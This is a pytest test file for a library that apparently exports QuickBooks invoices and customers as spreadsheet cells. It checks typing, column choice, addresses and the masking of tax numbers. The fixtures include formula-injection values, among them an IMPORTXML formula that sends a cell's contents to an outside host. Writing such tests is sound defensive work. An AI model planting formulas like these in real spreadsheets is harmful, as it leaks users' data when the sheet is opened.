from __future__ import annotations

import json
import pathlib
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from counterfoil import catalog
from counterfoil.core.cells import Cell
from counterfoil.core.datasets import Column, ColumnType, Source
from counterfoil.core.errors import ExportTooLarge
from counterfoil.core.records import address_line, plain_rows, reader

DATA = pathlib.Path(__file__).parents[1] / "data" / "quickbooks"
NEW_YORK = ZoneInfo("America/New_York")


def test_an_invoice_becomes_typed_cells() -> None:
    rows = rows_of("invoices", "Invoice", None)
    assert rows == [
        [
            "5000000000000503624",
            "00123",
            46082,
            46112,
            '=IMPORTXML("https://example.com?"&A2,"//a")',
            "Net 30",
            "North",
            "EUR",
            98.76,
            1333.26,
            0.1,
            "Thank you <b>very</b> much 🌿",
            'line one\nline two, "quoted"',
            "@zoe@example.com",
            "EmailSent",
            "Zoë Ångström, 1 Main St. Suite 2, Springfield, CA 01234, USA",
        ],
        ["7", "", 46207, "", "", "", "", "", "", -12, 12345678901234568.0, "", "", "", "", ""],
    ]


def test_every_other_column_of_an_invoice_can_be_chosen() -> None:
    (row, bare) = (
        dict(zip(keys("invoices"), cells, strict=True))
        for cells in rows_of("invoices", "Invoice", keys("invoices"))
    )
    chosen: dict[str, Cell] = {
        "customer_id": "24",
        "project": "",
        "terms_id": "3",
        "class": "Landscaping:Design",
        "class_id": "9",
        "location_id": "2",
        "currency_name": "Euro",
        "exchange_rate": 1.0946,
        "tax_code": "",
        "tax_code_id": "2",
        "deposit": 0,
        "home_total": 1459.39,
        "home_balance": 0.11,
        "print_status": "NeedToPrint",
        "delivery_type": "Email",
        "delivery_time": 46082.5,
        "billing_line_2": "1 Main St.\nSuite 2",
        "billing_postal_code": "01234",
        "billing_latitude": 37.4238562,
        "billing_longitude": -122.1141681,
        "shipping_address": "5 Dock Rd.",
        "shipping_latitude": "INVALID",
        "ship_date": "2026-02-30",
        "tracking_number": "1-2",
        "tax_calculation": "TaxExcluded",
        "tax_after_discount": False,
        "linked_types": "Estimate, Payment",
        "linked_ids": "100, 5000000000000000001",
        "custom_1": "",
        "custom_2": "007",
        "custom_3": "",
        "custom_names": "Sales Rep, Crew #",
        "card_payment": True,
        "ipn_payment": False,
        "created": (46082 * 86400 + 9 * 3600) / 86400,
        "updated": (46112 * 86400 + 23 * 3600 + 30 * 60 + 15) / 86400,
        "updated_by_id": "9341457000000001",
        "version": "3",
    }
    assert {key: row[key] for key in chosen} == chosen
    assert bare["created"] == 46207.625
    assert {key for key, cell in bare.items() if cell != ""} == {
        *("id", "date", "customer_id", "total", "balance", "created", "updated", "version"),
    }


def test_a_customer_becomes_typed_cells() -> None:
    assert rows_of("customers", "Customer", None) == [
        [
            "1",
            "'Amy's Bird Sanctuary'",
            'Amy\'s "Birds", Inc.',
            "Amy",
            "+1 (555) 0100",
            "birds@example.com",
            "(650) 555-3311",
            "+16505553312",
            "4581 Finch St., Bayshore, CA 94326-1234",
            "Net 30",
            "USD",
            85,
            True,
            "-1+2",
        ],
        ["2", "Amy (deleted)", "", "", "", "", "", "", "", "", "", 0, False, ""],
    ]


def test_a_persons_tax_number_reaches_no_cell() -> None:
    rows = rows_of("customers", "Customer", keys("customers"))
    assert "XXXXXXX89" not in json.dumps(rows)
    assert "Amy" in json.dumps(rows)


@pytest.mark.parametrize(
    ("address", "line"),
    [
        (None, None),
        ({}, None),
        ("text", None),
        ({"Id": "1", "Lat": "1", "Long": "2"}, None),
        ({"Line1": " 1  Main\tSt. ", "City": ""}, "1 Main St."),
        ({"PostalCode": 1234, "CountryCode": "DE"}, "1234, DE"),
        (
            {"Line1": "a", "Line5": "e", "County": "c", "Country": "x", "CountryCode": "y"},
            "a, e, c, x",
        ),
    ],
)
def test_an_address_is_one_line(address: Any, line: str | None) -> None:
    assert address_line(address) == line


@pytest.mark.parametrize(
    ("path", "source", "expected"),
    [
        ("A", Source.VALUE, {"B": {"C": "deep"}}),
        ("A.B.C", Source.VALUE, "deep"),
        ("A.B.C.D", Source.VALUE, None),
        ("X.Y", Source.VALUE, None),
        ("X.Y.Z", Source.VALUE, None),
        ("L[].V", Source.JOINED, "1, 2, 0, false"),
        ("L[].In[].V", Source.JOINED, "x, y"),
        ("T[]", Source.JOINED, "a, b"),
        ("N[].V", Source.JOINED, None),
        ("A[].V", Source.JOINED, None),
        ("CustomField[1]", Source.CUSTOM, Decimal("1.50")),
        ("CustomField[2]", Source.CUSTOM, False),
        ("CustomField[3]", Source.CUSTOM, None),
    ],
)
def test_a_path_finds_what_is_there_and_only_that(path: str, source: Source, expected: Any) -> None:
    record = {
        "A": {"B": {"C": "deep"}},
        "L": [{"V": 1}, {"V": "2", "In": [{"V": "x"}, {"V": "y"}]}, {}, {"V": 0}, {"V": False}],
        "T": ["a", None, "b"],
        "N": None,
        "CustomField": [
            {"DefinitionId": "1", "NumberValue": Decimal("1.50")},
            {"DefinitionId": "2", "BooleanValue": False},
            {"DefinitionId": "3"},
        ],
    }
    assert reader(Column("k", "T", ColumnType.TEXT, path, source))(record) == expected


def test_a_custom_field_needs_a_number() -> None:
    with pytest.raises(ValueError, match="no custom field"):
        reader(Column("k", "T", ColumnType.TEXT, "CustomField", Source.CUSTOM))


def test_a_text_that_no_cell_can_hold_names_its_column() -> None:
    columns = catalog.chosen_columns(catalog.entity("invoices"), ["memo"])
    with pytest.raises(ExportTooLarge, match='"Memo"'):
        plain_rows([{"Id": "1", "PrivateNote": "x" * 50_001}], columns, NEW_YORK)


def rows_of(key: str, name: str, columns: list[str] | None) -> list[list[Cell]]:
    page = json.loads((DATA / f"{key}.json").read_text(encoding="utf-8"), parse_float=Decimal)
    chosen = catalog.chosen_columns(catalog.entity(key), columns)
    return plain_rows(page["QueryResponse"][name], chosen, NEW_YORK)


def keys(key: str) -> list[str]:
    return [column.key for column in catalog.entity(key).columns]
